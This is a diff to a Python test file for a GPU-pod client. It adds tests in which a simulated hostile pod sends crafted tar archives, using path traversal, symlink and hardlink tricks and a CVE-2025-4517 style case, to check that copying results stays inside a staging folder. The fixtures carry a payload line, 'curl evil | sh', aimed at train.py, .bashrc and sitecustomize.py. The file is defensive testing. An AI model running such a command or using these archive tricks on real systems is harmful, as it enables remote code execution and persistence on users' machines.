@@ -5,15 +5,18 @@ and verified BEFORE the destroy; a stopped pod is resumed first; a failed or wro
 from __future__ import annotations
 
 import io
+import json
 import os
 import tarfile
 from pathlib import Path
-from typing import IO
+from typing import IO, Any, cast
 
 import pytest
+from hostiletars import cve_2025_4517, listing_of, member, outside, plant, tar_of
 from test_podlife import World, world
 
 from gpuc.client.context import Ctx
+from gpuc.client.jobs.copyout import copy_results, verify
 from gpuc.client.jobs.results import NOT_COPIED, Fetch, results, resume, resume_stuck
 from gpuc.client.pods.down import down
 from gpuc.client.pods.plan import UpOptions
@@ -67,9 +70,10 @@ def test_down_names_the_fix_and_results_copies_verifies_then_ends_the_pod(world:
     dest = results(pod.id, deps, to=tmp_path / "here")
     assert dest == tmp_path / "here"
     assert same_tree(kept_copy, dest / "results")
-    assert os.readlink(dest / "results" / "latest") == "ckpt/model.bin"
+    assert not (dest / "results" / "latest").is_symlink(), "no link is made from what a pod sends"
     assert (dest / "logs" / "job.log").read_text() == "epoch 1\nepoch 2\n"
-    assert "results/outside -> /etc/hostname" in (dest / NOT_COPIED).read_text()
+    written = (dest / NOT_COPIED).read_text()
+    assert "results/outside -> /etc/hostname" in written and "results/latest -> ckpt/model.bin" in written
     assert calls == ["end", "notify", "destroy"]  # down's path, after the copy
     assert provider.get(pod.id) is None
     assert deps.ledger().rows()[0].end
@@ -200,3 +204,112 @@ def test_the_pod_side_listing_and_tar_agree(tmp_path: Path) -> None:
         names = tar.getnames()
     assert set(names) == set(listing) == {"results", "results/a", "results/a/b.txt"}
     assert listing["results/a/b.txt"] == ["f", 3]
+
+
+# -- a hostile pod (issue 25 items 1 and 11): its listing and its tar agree, and attack the laptop --------
+class LyingPod:
+    """A pod whose `resultscopy list` answers `listing`: whatever it likes, matching the tar it sends."""
+
+    def __init__(self, listing: dict[str, list[object]]) -> None:
+        self.listing = listing
+
+    def read(self, argv: list[str], timeout_s: float = 120.0) -> tuple[int, str]:
+        return 0, json.dumps(self.listing) + "\n"
+
+
+def sends(members: list[tuple[tarfile.TarInfo, bytes]]) -> Fetch:
+    data = tar_of(*members)
+
+    def fetch(out: IO[bytes], _timeout: float) -> None:
+        out.write(data)
+
+    return fetch
+
+
+EVIL = b"import os; os.system('curl evil | sh')\n"
+
+
+def attacks(root: Path) -> dict[str, list[tuple[tarfile.TarInfo, bytes]]]:
+    """id -> the members a hostile pod sends (and lists, so that only the unpacking stands in the way)."""
+    return {
+        "cve-2025-4517-project": cve_2025_4517("../project", "train.py", EVIL, top="results"),
+        "cve-2025-4517-home": cve_2025_4517("../home", ".bashrc", EVIL, top="results"),
+        "symlink-then-file": [
+            member("results", "d"),
+            member("results/p", "l", target="../../project"),
+            member("results/p/train.py", "f", EVIL),
+        ],
+        "absolute-symlink-then-file": [
+            member("results", "d"),
+            member("results/h", "l", target=str(root / "home")),
+            member("results/h/.bashrc", "f", EVIL),
+        ],
+        "dotdot-name": [member("results", "d"), member("results/../../project/train.py", "f", EVIL)],
+        "hardlink-to-a-file-outside": [member("results", "d"), member("results/t", "h", target="/etc/passwd")],
+        "device": [member("results", "d"), member("results/null", "chr")],
+        "duplicate-name": [
+            member("results", "d"),
+            member("results/a.txt", "f", b"first"),
+            member("results/a.txt", "f", b"other"),
+        ],
+    }
+
+
+@pytest.mark.parametrize("case", sorted(attacks(Path("/x"))))
+def test_a_hostile_pods_tar_writes_nothing_outside_the_staging_folder(
+    tmp_path: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch, case: str
+) -> None:
+    plant(tmp_path)
+    monkeypatch.setenv("HOME", str(tmp_path / "home"))
+    members = attacks(tmp_path)[case]
+    before = outside(tmp_path)
+    refused: Exception | None = None
+    try:
+        copy_results(cast(Any, LyingPod(listing_of(members))), sends(members), tmp_path / "here", Ctx(clock=clock))
+    except Exception as exc:  # judged after what matters most: what changed outside
+        refused = exc
+    assert outside(tmp_path) == before, "the pod wrote outside the staging folder"
+    assert isinstance(refused, GpucError), refused
+    assert "\n" not in str(refused) and "nothing was destroyed" in (refused.hint or "")
+    assert not (tmp_path / "here").exists() and list(tmp_path.glob(".here.partial-*")) == []
+
+
+def test_a_pod_sending_a_file_its_listing_does_not_name_is_refused(world: World, tmp_path: Path) -> None:
+    deps, provider, calls = world
+    pod = kept_pod(world)
+    paths = provider.paths(pod.id)
+
+    def adds_one(out: IO[bytes], _timeout: float) -> None:
+        real = io.BytesIO()
+        resultscopy.write_tar(paths, real)
+        real.seek(0)
+        with tarfile.open(fileobj=real) as sent, tarfile.open(fileobj=out, mode="w") as tar:
+            for info in sent.getmembers():
+                tar.addfile(info, sent.extractfile(info) if info.isreg() else None)
+            extra, body = member("results/sitecustomize.py", "f", EVIL)
+            tar.addfile(extra, io.BytesIO(body))
+
+    calls.clear()
+    with pytest.raises(GpucError, match="its listing does not name it"):
+        results(pod.id, deps, to=tmp_path / "here", fetch=adds_one)
+    assert "destroy" not in calls and not (tmp_path / "here").exists()
+
+
+def test_verify_refuses_what_the_listing_did_not_name(tmp_path: Path) -> None:
+    (tmp_path / "results").mkdir()
+    (tmp_path / "results" / "a.txt").write_text("a")
+    (tmp_path / "logs").mkdir()  # above a listed name: the tar need not hold it
+    (tmp_path / "logs" / "job.log").write_text("x")
+    expected: dict[str, list[object]] = {"results": ["d"], "results/a.txt": ["f", 1], "logs/job.log": ["f", 1]}
+    verify(expected, {}, tmp_path)
+    (tmp_path / "results" / "b.txt").write_text("b")
+    with pytest.raises(GpucError, match="1 not in its listing"):
+        verify(expected, {}, tmp_path)
+
+
+@pytest.mark.parametrize("name", [NOT_COPIED, "../outside.txt", "elsewhere/x", "logs/other.txt"])
+def test_a_listing_naming_what_was_not_asked_is_refused(tmp_path: Path, clock: FakeClock, name: str) -> None:
+    members = [member("results", "d"), member(name, "f", b"x")]
+    with pytest.raises(GpucError, match="which is not part of"):
+        copy_results(cast(Any, LyingPod(listing_of(members))), sends(members), tmp_path / "here", Ctx(clock=clock))
+    assert list(tmp_path.iterdir()) == []
